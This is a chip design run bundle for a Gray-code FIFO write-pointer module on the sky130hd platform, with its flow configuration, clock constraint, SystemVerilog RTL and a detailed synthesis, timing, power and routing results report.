[config.mk]
export PLATFORM = sky130hd
export DESIGN_NAME = wptr_full_status
export DESIGN_NICKNAME = d
export VERILOG_FILES = /design/src/rtl/wptr_full_status.sv
export SDC_FILE = /design/constraint.sdc
export NUM_CORES = 1
export LEC_CHECK = 0
export CAP_MARGIN = 20
export CORE_MARGIN = 4
export CORE_UTILIZATION = 48
export CTS_BUF_LIST = sky130_fd_sc_hd__clkbuf_8
export DETAILED_ROUTE_END_ITERATION = 6
export HOLD_SLACK_MARGIN = 0.1
export PLACE_DENSITY = 0.82
export SLEW_MARGIN = 10
export SYNTH_ARGS = -nofsm -noshare
export SYNTH_HDL_FRONTEND = slang
export SYNTH_SLANG_ARGS = --single-unit
[constraint.sdc]
create_clock -name wclk -period 3.9 [get_ports wclk]
set_input_delay 1.17 -clock wclk [delete_from_list [all_inputs] [get_ports wclk]]
set_output_delay 1.17 -clock wclk [all_outputs]
set_load 0.01 [all_outputs]
[src/rtl/wptr_full_status.sv]
// rtl/wptr_full_status.sv - write-side pointer, full/almost-full, occupancy and overflow status
module wptr_full_status #(
    parameter int ADDRSIZE     = 4,
    parameter int AFULL_THRESH = 12
) (
    input  logic                wclk,
    input  logic                wrst,
    input  logic                winc,
    input  logic [ADDRSIZE:0]   wq2_rptr,
    input  logic                ovf_clr,
    output logic [ADDRSIZE-1:0] waddr,
    output logic [ADDRSIZE:0]   wptr,
    output logic                wfull,
    output logic                wafull,
    output logic [ADDRSIZE:0]   wcount,
    output logic                wovf
);

    localparam logic [ADDRSIZE:0] THRESH = (ADDRSIZE+1)'(AFULL_THRESH);

    logic [ADDRSIZE:0] wbin_q, wbin_d;
    logic [ADDRSIZE:0] wptr_q, wptr_d;
    logic [ADDRSIZE:0] wcount_q, wcount_d;
    logic              wfull_q, wfull_d;
    logic              wafull_q, wafull_d;
    logic              wovf_q, wovf_d;
    logic              we;
    logic [ADDRSIZE:0] rbin_s;
    logic [ADDRSIZE:0] occ;

    // Gray read pointer back to binary so occupancy is a plain subtraction
    always_comb begin
        rbin_s           = '0;
        rbin_s[ADDRSIZE] = wq2_rptr[ADDRSIZE];
        for (int i = ADDRSIZE - 1; i >= 0; i--) begin
            rbin_s[i] = rbin_s[i+1] ^ wq2_rptr[i];
        end
    end

    // Next pointer, flags and count; all derived from the post-write pointer
    always_comb begin
        we       = winc & ~wfull_q;
        wbin_d   = wbin_q + {{ADDRSIZE{1'b0}}, we};
        wptr_d   = (wbin_d >> 1) ^ wbin_d;
        occ      = wbin_d - rbin_s;
        wcount_d = occ;
        wafull_d = (occ >= THRESH);
        // Full when the pointers differ only in the two MSBs of the Gray code
        wfull_d  = (wptr_d == {~wq2_rptr[ADDRSIZE:ADDRSIZE-1], wq2_rptr[ADDRSIZE-2:0]});
        wovf_d   = wovf_q;
        if (winc && wfull_q) begin
            wovf_d = 1'b1;
        end else if (ovf_clr) begin
            wovf_d = 1'b0;
        end
    end

    // State register; reset wins over every other input
    always_ff @(posedge wclk) begin
        if (wrst) begin
            wbin_q   <= '0;
            wptr_q   <= '0;
            wcount_q <= '0;
            wfull_q  <= 1'b0;
            wafull_q <= 1'b0;
            wovf_q   <= 1'b0;
        end else begin
            wbin_q   <= wbin_d;
            wptr_q   <= wptr_d;
            wcount_q <= wcount_d;
            wfull_q  <= wfull_d;
            wafull_q <= wafull_d;
            wovf_q   <= wovf_d;
        end
    end

    assign waddr  = wbin_q[ADDRSIZE-1:0];
    assign wptr   = wptr_q;
    assign wfull  = wfull_q;
    assign wafull = wafull_q;
    assign wcount = wcount_q;
    assign wovf   = wovf_q;

endmodule

==> out/qor.yml <==
synthesis:
  yosysMostFrequentCell: "dfxtp_1"
  synth.area.top_cells: "dfxtp_1, xnor2_1, ha_1, xor2_1, nor2_1"
  synth-main-ff-cell: "dfxtp_1"
  syn_nets: 109
  ys_top_cells_by_count: "dfxtp_1, nor2_1, xnor2_1"
  ys_ff_latch: 17
  synth_top_area_cell: "dfxtp_1"
  async_flop_share_pct: 0
  syn_area_per_cell_um2: 9.55
  yosysTopAreaCellShare_pct: 38.3
  synthCells: 93
  syn_area_um2: 888
  synth.distinct_cells: 26
  ys.warnings.count: 0
  synth_edf_count: 0
  seq_area_frac_synth_pct: 38.3
global_route:
  antenna_found_initial: 0
  grt_util_met3_pct: 2.92
  grt_max_degree: 18
  grt_usage_pct: 15.4
  top_usage_layer: "met2"
  gr-usage-met1_pct: 19.2
  grt_pass1_wl_um: 3040
  grt_pass1_vias: 667
  use_met2_pct: 24.7
  overflow: 0
setup_path:
  crit_arrival_ps: 3670
  crit_path_max_fanout: 2
  cp-start-kind: "primary input"
  max_stage_delay_ps: 450
  end_kind: "register"
  critPathKind: "primary input to register"
  path_common_cell: "xor2_1"
  ff2ff_path_depth: 10
  critical-path-slowest-cell: "clkdlybuf4s50_1"
  crit_chain: "clkdlybuf4s50_1, xnor2_1, xor2_1, xor2_1, xnor2_1, ha_1, fa_1, inv_1, a21o_1, a21oi_1, xor2_1, o2bb2ai_1"
  crit_required_ps: 4030
cells_and_area:
  drive_gt1_share_pct: 8.20
  stdcell_count: 147
  layout.nets: 139
  antenna_cells: 0
  design_area_um2: 1210
  fill_cells: 138
  postLayoutCoreUtil_pct: 69.5
  syn_to_final_growth_pct: 36.5
power:
  clkPwrFrac_pct: 26.3
  power_frac_comb_pct: 33.3
  p_seq_share_pct: 40.4
  finalPower_uw: 498
  swShare_pct: 28.5
  intPower_uw: 356
  p_leak_nw: 0.505
  power_density_nw_per_um2: 411
  p_sw_uw: 142
  peakVddDrop_uv: 355
placed_design:
  dp_hpwl_um: 1370
  placed_cells: 143
  portBuffers: 25
  dp_slack_ps: 77.1
  placed_cell_area_um2: 1170
  routabilityCongestion: 0.804
worst_hold_path:
  holdPathStages: 2
  hold_path.class: "register to register"
route:
  ant_nets: 0
  routed_via_density: 4.94
  drt_wl_total_um: 1820
  drt_iter0_markers: 19
  dr.pass1.iters: 4
  drc: 0
  vias: 726
  avgRoutedWirePerCell_um: 12.4
die:
  fp.dieW_um: 51.0
  num_rows: 15
  dieHeight_um: 51.0
  core_area_um2: 1750
  initial_utilization_pct: 50.9
  die_area_um2: 2600
  num_io_pins: 26
clocking:
  clk_latency_ps: 250
  cts.sink_count: 17
  cts_resized: 0
  cts.path.max_buffers: 2
  clock_tree.root_cell: "clkbuf_8"
  cts_tree: "built"
  hold_buffers: 0
  h-tree-depth: 1
  cts_buffers: 3
  post_cts_buffers: 0
  clkSlewWorstSetupHoldPaths_ps: 70
run:
  maxCapViolations: 0
sta:
  hold_ws_ps: 480
  skew_ps: 5.53
  period_needed_ps: 3550
  setup_viol: 0
  timing.final.ws_setup_ps: 354
  period_share_pct: 90.9
  fin_setup_tns_ps: 0
  fmax_mhz: 282
  rsz0062_at_grt: "no"
  hold_viol: 0
  max_slew_margin_pct: 59.5
  drv_slew: 0
  tightest_slew_ps: 606
run_status:
  status: "finished, final reports clean"
## power by group through the flow
stage               registers, mW  logic (mW)  clock network (mW)
detailed placement          0.206       0.164                   0
global route                0.203       0.181               0.140
CTS                         0.201       0.167               0.133
finish                      0.201       0.166               0.131
global placement            0.205       0.158                   0
floorplan                   0.217      0.0820                   0
## kinds of logic (layout without fill, tap and decap cells)
kind of cell | Yosys count | after routing | share of synthesized area, %
buf+inv | 10 | 39 | 5.92
fa+ha+maj | 7 | 7 | 10.7
xor+xnor | 18 | 18 | 19.9
flops | 17 | 17 | 38.3
compound gates | 11 | 11 | 9.01
simple gates | 30 | 30 | 16.2
## area by class of cell
type	instances	area, um2	area share, %
timing repair buffer	28	273	22.5
clock buffer	3	41.3	3.41
tap	25	31.3	2.58
sequential	17	340	28.1
multi-input combinational	66	495	40.9
clock inverter	1	5.00	0.413
inverter	7	26.3	2.17
## sequential cells by signal, indices dropped and copies added, names as in the netlist
| name | cells |
|---|---|
| wbin_q | 5 |
| wcount | 5 |
| wptr | 4 |
| wafull | 1 |
| wfull | 1 |
| wovf | 1 |
## path summary, 6_finish.rpt
| kind | startpoint | slack, ps | end |
|---|---|---|---|
| setup / recovery | wq2_rptr[4] | 350 | wafull$_SDFF_PP0_ |
| hold reg to reg | wovf$_SDFFE_PP0P_ | 480 | wovf$_SDFFE_PP0P_ |
| hold / removal | wovf$_SDFFE_PP0P_ | 480 | wovf$_SDFFE_PP0P_ |
| setup reg to reg | wfull$_SDFF_PP0_ | 1570 | wafull$_SDFF_PP0_ |
## critical path, delay by kind of cell
| family | cells | cell delay [ps] |
|---|---|---|
| AO/OA/AOI/OAI | 3 | 400 |
| buffers and inverters | 2 | 500 |
| adder cells (fa/ha/maj) | 2 | 440 |
| XOR/XNOR | 5 | 1160 |
## routing by layer
| metal | vias up | share of wire (%) |
|---|---|---|
| met5 | - | 0 |
| met4 | 0 | 2.1 |
| met3 | 6 | 6.2 |
| met2 | 26 | 47 |
| met1 | 333 | 44 |
| li1 | 361 | - |
## cells in the final DEF (no fill, tap or decap), drive strengths merged, types with 2 or more instances in the layout
master         instances
xnor2                 10
clkbuf                 3
clkdlybuf4s50         25
a21oi                  4
ha                     6
a21o                   2
nand3                  4
inv                    7
nand2                  5
dfxtp                 17
buf                    3
xor2                   8
nor2b                  2
nor2                  13
(Power assumes the default switching activity.)
